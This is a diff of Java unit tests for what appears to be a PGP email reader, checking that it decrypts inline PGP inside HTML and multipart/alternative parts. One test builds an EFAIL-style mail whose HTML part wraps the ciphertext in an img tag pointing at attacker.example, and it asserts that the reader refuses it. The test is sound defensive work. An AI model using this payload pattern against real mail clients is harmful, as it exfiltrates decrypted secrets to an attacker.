@@ -151,6 +151,44 @@ class EfailAndShapesTest {
   }
 
   @Test
+  void readsInlinePgpInsideHtmlAndInAlternatives() throws Exception {
+    String armored = ciphertext("inline secret ü", true);
+    String html =
+        "<html><body><pre>" + armored.replace("\n", "<br>\n") + "</pre></body></html>\r\n";
+    ReadMail inHtml =
+        BOB_READER.read(
+            ("Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html)
+                .getBytes(UTF_8));
+    assertEquals(MailKind.INLINE_PGP, inHtml.kind());
+    assertEquals("inline secret ü", inHtml.text().orElseThrow());
+    assertEquals(SignatureStatus.GOOD, inHtml.signatureStatus());
+
+    String alt =
+        "Subject: x\r\nContent-Type: multipart/alternative; boundary=\"A\"\r\n\r\n"
+            + "--A\r\nContent-Type: text/plain\r\n\r\n"
+            + armored
+            + "\r\n--A\r\nContent-Type: text/html\r\n\r\n"
+            + html
+            + "--A--\r\n";
+    ReadMail inAlt = BOB_READER.read(alt.getBytes(UTF_8));
+    assertEquals(MailKind.INLINE_PGP, inAlt.kind());
+    assertEquals("inline secret ü", inAlt.text().orElseThrow());
+  }
+
+  @Test
+  void anAlternativeWithAttackerHtmlBesideTheCiphertextIsRefused() throws Exception {
+    String alt =
+        "Subject: x\r\nContent-Type: multipart/alternative; boundary=\"A\"\r\n\r\n"
+            + "--A\r\nContent-Type: text/plain\r\n\r\n"
+            + ciphertext(SECRET_INNER, true)
+            + "\r\n--A\r\nContent-Type: text/html\r\n\r\n"
+            + "<img src=\"http://attacker.example/<pre>"
+            + ciphertext(SECRET_INNER, true)
+            + "</pre>\">\r\n--A--\r\n";
+    assertEquals(MailError.MIXED_ENCRYPTED_CONTENT, refused(alt).code());
+  }
+
+  @Test
   void readsDraftProtectedHeadersAndDropsLegacyDisplayPart() throws Exception {
     String inner =
         "Content-Type: multipart/mixed; boundary=\"P\"; protected-headers=\"v1\"\r\n"
